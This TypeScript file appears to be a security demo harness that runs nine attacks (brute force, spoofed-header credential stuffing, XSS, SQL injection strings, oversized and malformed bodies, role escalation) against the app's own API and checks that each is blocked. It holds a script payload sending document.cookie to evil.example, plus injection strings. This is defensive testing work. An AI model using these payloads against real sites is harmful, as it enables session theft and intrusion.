import type { SecurityEvent } from "@bulwark/core";
import type { Role } from "@bulwark/crm-domain";
import { type DemoClient, summarizeStatuses } from "./demo-client.js";

/** Result of one attack on one app: a short outcome and whether every protection held. */
export interface AttackResult {
  readonly outcome: string;
  readonly protected: boolean;
}

/** Input of an attack: its client, the demo passwords and the app's security events. */
export interface AttackContext {
  readonly client: DemoClient;
  readonly passwords: Readonly<Record<Role, string>>;
  /** Security events this app published so far, after the monitor has handled them. */
  events(): Promise<readonly SecurityEvent[]>;
}

/** One attack of the demo and the protection it shows. */
export interface Attack {
  readonly name: string;
  readonly expected: string;
  run(context: AttackContext): Promise<AttackResult>;
}

/** The 429 body of the login limiter. */
const AUTH_LIMIT_MESSAGE = "Too many login attempts, please try again after 15 minutes.";
const OVERSIZED_BODY_BYTES = 11 * 1024 * 1024;
export const XSS_FIRST_NAME = "<script>fetch('//evil.example/'+document.cookie)</script>Eve";
export const SQL_LOOKING_NOTE = "Robert'); DROP TABLE contacts;-- also 1=1 OR 'a'='a'";

const bruteForce: Attack = {
  name: "Brute-force login burst",
  expected: "5 attempts, then 429 for 15 minutes",
  async run({ client }) {
    const responses = [];
    for (let attempt = 1; attempt <= 8; attempt += 1) {
      responses.push(
        await client.call("POST", "/api/auth/login", {
          json: { username: "viewer", password: `guess-number-${attempt}` },
        }),
      );
    }
    const statuses = responses.map((response) => response.status);
    const limited = responses.slice(5);
    return {
      outcome: summarizeStatuses(statuses),
      protected:
        statuses.slice(0, 5).every((status) => status === 401) &&
        limited.every(
          (response) =>
            response.status === 429 &&
            response.json?.message === AUTH_LIMIT_MESSAGE &&
            response.headers["retry-after"] !== undefined,
        ),
    };
  },
};

const credentialStuffing: Attack = {
  name: "Credential stuffing, spoofed X-Forwarded-For",
  expected: "forwarding headers ignored, 429 after 5",
  async run({ client, events }) {
    const usernames = ["alice", "bob", "carol", "agent", "dave", "erin", "frank", "grace"];
    const statuses: number[] = [];
    for (const [index, username] of usernames.entries()) {
      const response = await client.call("POST", "/api/auth/login", {
        json: { username, password: `Summer2024!${index}` },
        // No trusted proxy is configured, so these claims about the client are not believed.
        headers: [
          ["X-Forwarded-For", `203.0.113.${index + 10}`],
          ["X-Real-IP", `198.51.100.${index + 10}`],
        ],
      });
      statuses.push(response.status);
    }
    const failed = (await events()).filter((event) => event.type === "login.failed");
    const spoofedIpSeen = failed.some((event) => event.clientIp !== "127.0.0.1");
    return {
      outcome: `${summarizeStatuses(statuses)}, client 127.0.0.1`,
      protected:
        !spoofedIpSeen &&
        statuses.slice(0, 5).every((status) => status === 401) &&
        statuses.slice(5).every((status) => status === 429),
    };
  },
};

const xssContact: Attack = {
  name: "XSS payload in a contact",
  expected: "HTML stripped before storage",
  async run({ client, passwords }) {
    const token = await client.login("agent", passwords.agent);
    const created = await client.call("POST", "/api/contacts", {
      token,
      json: { firstName: XSS_FIRST_NAME, lastName: '<img src=x onerror="alert(1)">Mallory' },
    });
    const contact = created.json?.contact;
    return {
      outcome: `${created.status}, stored "${contact?.firstName} ${contact?.lastName}"`,
      protected:
        created.status === 201 && contact?.firstName === "Eve" && contact?.lastName === "Mallory",
    };
  },
};

const sqlNote: Attack = {
  name: "SQL-injection-looking note",
  expected: "reported, stored unaltered",
  async run({ client, passwords, events }) {
    const token = await client.login("agent", passwords.agent);
    const created = await client.call("POST", "/api/contacts", {
      token,
      json: { firstName: "Bobby", lastName: "Tables", notes: SQL_LOOKING_NOTE },
    });
    const read = await client.call("GET", `/api/contacts/${created.json?.contact?.id}`, { token });
    const reported = (await events()).some((event) => event.type === "injection.suspected");
    const unaltered = read.json?.contact?.notes === SQL_LOOKING_NOTE;
    return {
      outcome: `${created.status}, ${unaltered ? "unaltered" : "ALTERED"}, ${reported ? "injection.suspected" : "NOT REPORTED"}`,
      protected: created.status === 201 && unaltered && reported,
    };
  },
};

const oversizedBody: Attack = {
  name: "Oversized body (11 MiB JSON)",
  expected: "413 before the body is read",
  async run({ client, passwords }) {
    const token = await client.login("agent", passwords.agent);
    const response = await client.call("POST", "/api/contacts", {
      token,
      body: `{"firstName":"A","lastName":"B","notes":"${"x".repeat(OVERSIZED_BODY_BYTES)}"}`,
    });
    return {
      outcome: `${response.status} ${response.json?.code}`,
      protected: response.status === 413 && response.json?.code === "PAYLOAD_TOO_LARGE",
    };
  },
};

const malformedJson: Attack = {
  name: "Malformed JSON",
  expected: "400 MALFORMED_JSON, no parser error leaked",
  async run({ client, passwords }) {
    const token = await client.login("agent", passwords.agent);
    const response = await client.call("POST", "/api/contacts", {
      token,
      body: '{"firstName": "Ada", "lastName": ',
    });
    return {
      outcome: `${response.status} ${response.json?.code}`,
      protected:
        response.status === 400 &&
        response.json?.code === "MALFORMED_JSON" &&
        !/SyntaxError|at JSON\.parse/.test(response.body),
    };
  },
};

const nonUuidId: Attack = {
  name: "Non-UUID id",
  expected: "400 VALIDATION_FAILED on params.id",
  async run({ client, passwords }) {
    const token = await client.login("agent", passwords.agent);
    const response = await client.call("GET", "/api/contacts/1%20OR%201%3D1", { token });
    const field = response.json?.errors?.[0]?.field;
    return {
      outcome: `${response.status} ${response.json?.code} ${field}`,
      protected:
        response.status === 400 &&
        response.json?.code === "VALIDATION_FAILED" &&
        field === "params.id",
    };
  },
};

const exportBurst: Attack = {
  name: "Export burst",
  expected: "5 exports an hour, then 429",
  async run({ client, passwords }) {
    const token = await client.login("manager", passwords.manager);
    const statuses: number[] = [];
    for (let attempt = 0; attempt < 7; attempt += 1) {
      statuses.push((await client.call("GET", "/api/exports/contacts.csv", { token })).status);
    }
    return {
      outcome: summarizeStatuses(statuses),
      protected:
        statuses.slice(0, 5).every((status) => status === 200) &&
        statuses.slice(5).every((status) => status === 429),
    };
  },
};

const roleChange: Attack = {
  name: "Agent tries to change a role",
  expected: "403, role unchanged",
  async run({ client, passwords }) {
    const admin = await client.login("admin", passwords.admin);
    const users = await client.call("GET", "/api/users?limit=100", { token: admin });
    const agentUser = (users.json?.items as { id: string; username: string }[] | undefined)?.find(
      (user) => user.username === "agent",
    );
    const agent = await client.login("agent", passwords.agent);
    const attempt = await client.call("PUT", `/api/users/${agentUser?.id}`, {
      token: agent,
      json: { role: "admin" },
    });
    const after = await client.call("GET", `/api/users/${agentUser?.id}`, { token: admin });
    return {
      outcome: `${attempt.status} ${attempt.json?.code}, role ${after.json?.user?.role}`,
      protected: attempt.status === 403 && after.json?.user?.role === "agent",
    };
  },
};

/** The demo's attacks, in the order they run. */
export const ATTACKS: readonly Attack[] = [
  bruteForce,
  credentialStuffing,
  xssContact,
  sqlNote,
  oversizedBody,
  malformedJson,
  nonUuidId,
  exportBurst,
  roleChange,
];
